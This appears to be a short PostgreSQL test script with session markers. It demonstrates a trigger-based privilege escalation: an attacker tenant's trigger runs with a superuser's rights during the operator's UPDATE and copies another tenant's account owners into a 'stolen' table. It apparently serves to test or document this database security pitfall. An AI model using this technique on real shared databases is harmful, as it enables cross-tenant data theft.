-- A superuser writes to the attacker's table: its trigger runs with his rights.
CREATE TABLE stolen (what text);
CREATE FUNCTION spies() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO tenant_alpha.stolen SELECT owner FROM tenant_beta.accounts; RETURN NEW; END $$;
CREATE TRIGGER spies AFTER UPDATE ON accounts FOR EACH STATEMENT EXECUTE FUNCTION spies();
-- @session operator
UPDATE tenant_alpha.accounts SET balance = 0;
-- @session attacker
TABLE stolen;
